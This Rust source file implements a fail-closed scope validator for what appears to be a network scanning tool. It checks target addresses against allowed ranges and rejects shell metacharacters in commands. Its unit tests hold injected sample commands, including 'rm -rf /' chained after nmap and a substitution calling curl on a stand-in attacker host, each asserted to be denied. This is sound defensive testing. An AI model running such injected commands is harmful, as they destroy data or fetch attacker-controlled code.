//! Fail-closed scope authorization.
//!
//! Every rule below runs in the documented order; any internal error
//! (parse failure aside) returns a deny rather than propagating, since a
//! validator that can throw its way past a deny is not fail-closed.

use std::net::IpAddr;

use ipnet::Ipv4Net;
use tracing::{info, warn};

use crate::config::ScopeConfig;
use crate::error::ScopeViolationError;

/// Shell metacharacters that enable command chaining or substitution.
/// Checked against the raw command string before any tokenization.
const INJECTION_CHARS: &[char] = &[';', '|', '&', '$', '(', ')', '`', '\n'];

pub struct ScopeValidator {
    config: ScopeConfig,
    reserved_v4: Vec<Ipv4Net>,
    private_v4: Vec<Ipv4Net>,
}

impl ScopeValidator {
    pub fn new(config: ScopeConfig) -> Self {
        let reserved_v4 = [
            "127.0.0.0/8",
            "169.254.0.0/16",
            "224.0.0.0/4",
            "255.255.255.255/32",
        ]
        .iter()
        .map(|s| s.parse().expect("static reserved CIDR literal is valid"))
        .collect();

        let private_v4 = ["10.0.0.0/8", "172.16.0.0/12", "192.168.0.0/16"]
            .iter()
            .map(|s| s.parse().expect("static private CIDR literal is valid"))
            .collect();

        Self {
            config,
            reserved_v4,
            private_v4,
        }
    }

    /// Validate a target address/hostname/URL. Returns `Ok(())` on allow,
    /// or the violation that justified the deny.
    pub fn validate_target(&self, target: &str) -> Result<(), ScopeViolationError> {
        let result = self.validate_target_inner(target);
        match &result {
            Ok(()) => info!(target, decision = "allow", "scope decision"),
            Err(e) => warn!(target, decision = "deny", rule = %e.rule, "scope decision"),
        }
        result
    }

    fn validate_target_inner(&self, target: &str) -> Result<(), ScopeViolationError> {
        let deny = |rule: &str| ScopeViolationError {
            target: Some(target.to_string()),
            command: None,
            rule: rule.to_string(),
        };

        if let Ok(IpAddr::V4(addr)) = target.parse::<IpAddr>() {
            if self.reserved_v4.iter().any(|net| net.contains(&addr)) {
                return Err(deny("reserved_range"));
            }
            if !self.config.allow_private && self.private_v4.iter().any(|net| net.contains(&addr)) {
                return Err(deny("private_range_not_allowed"));
            }
            let in_allowed_network = self
                .config
                .allowed_networks
                .iter()
                .any(|net| net.contains(&IpAddr::V4(addr)));
            if in_allowed_network {
                return Ok(());
            }
            return Err(deny("not_in_allowed_scope"));
        }

        if let Ok(IpAddr::V6(addr)) = target.parse::<IpAddr>() {
            let in_allowed_network = self
                .config
                .allowed_networks
                .iter()
                .any(|net| net.contains(&IpAddr::V6(addr)));
            if in_allowed_network {
                return Ok(());
            }
            return Err(deny("not_in_allowed_scope"));
        }

        let host = extract_host(target);
        if self.config.allowed_hosts.iter().any(|h| h == host) {
            return Ok(());
        }
        Err(deny("not_in_allowed_scope"))
    }

    /// Validate a command string for shell metacharacters that would allow
    /// chaining or substitution. Runs before any tokenization of the
    /// command, matching the Python original's check ordering.
    pub fn validate_command(&self, command: &str) -> Result<(), ScopeViolationError> {
        let result = if command.contains(INJECTION_CHARS) {
            Err(ScopeViolationError {
                target: None,
                command: Some(truncate(command, 50)),
                rule: "command_injection_metacharacter".to_string(),
            })
        } else {
            Ok(())
        };
        match &result {
            Ok(()) => info!(command = %truncate(command, 50), decision = "allow", "scope decision"),
            Err(e) => warn!(command = %truncate(command, 50), decision = "deny", rule = %e.rule, "scope decision"),
        }
        result
    }
}

fn extract_host(target: &str) -> &str {
    if let Some(idx) = target.find("://") {
        let rest = &target[idx + 3..];
        let end = rest
            .find(|c| c == '/' || c == ':' || c == '?')
            .unwrap_or(rest.len());
        &rest[..end]
    } else {
        target
    }
}

fn truncate(s: &str, max: usize) -> String {
    s.chars().take(max).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn validator_with_network(cidr: &str, allow_private: bool) -> ScopeValidator {
        ScopeValidator::new(ScopeConfig {
            allow_private,
            allowed_networks: vec![cidr.parse().unwrap()],
            allowed_hosts: vec!["scanner.lab.internal".to_string()],
        })
    }

    #[test]
    fn always_denies_loopback() {
        let v = validator_with_network("127.0.0.0/8", true);
        assert!(v.validate_target("127.0.0.1").is_err());
    }

    #[test]
    fn always_denies_broadcast_and_multicast() {
        let v = validator_with_network("0.0.0.0/0", true);
        assert!(v.validate_target("255.255.255.255").is_err());
        assert!(v.validate_target("224.0.0.1").is_err());
    }

    #[test]
    fn denies_private_without_allow_private() {
        let v = validator_with_network("192.168.1.0/24", false);
        assert!(v.validate_target("192.168.1.10").is_err());
    }

    #[test]
    fn allows_private_when_enabled_and_in_scope() {
        let v = validator_with_network("192.168.1.0/24", true);
        assert!(v.validate_target("192.168.1.10").is_ok());
    }

    #[test]
    fn denies_public_target_outside_allowed_networks() {
        let v = validator_with_network("192.0.2.0/24", false);
        assert!(v.validate_target("203.0.113.5").is_err());
    }

    #[test]
    fn allows_configured_hostname() {
        let v = validator_with_network("192.0.2.0/24", false);
        assert!(v.validate_target("scanner.lab.internal").is_ok());
    }

    #[test]
    fn rejects_command_with_semicolon() {
        let v = validator_with_network("192.0.2.0/24", false);
        assert!(v.validate_command("nmap 192.0.2.10; rm -rf /").is_err());
    }

    #[test]
    fn rejects_command_with_substitution() {
        let v = validator_with_network("192.0.2.0/24", false);
        assert!(v.validate_command("nmap $(curl evil.example)").is_err());
        assert!(v.validate_command("nmap `whoami`").is_err());
    }

    #[test]
    fn allows_plain_command() {
        let v = validator_with_network("192.0.2.0/24", false);
        assert!(v.validate_command("nmap -sV 192.0.2.10").is_ok());
    }
}
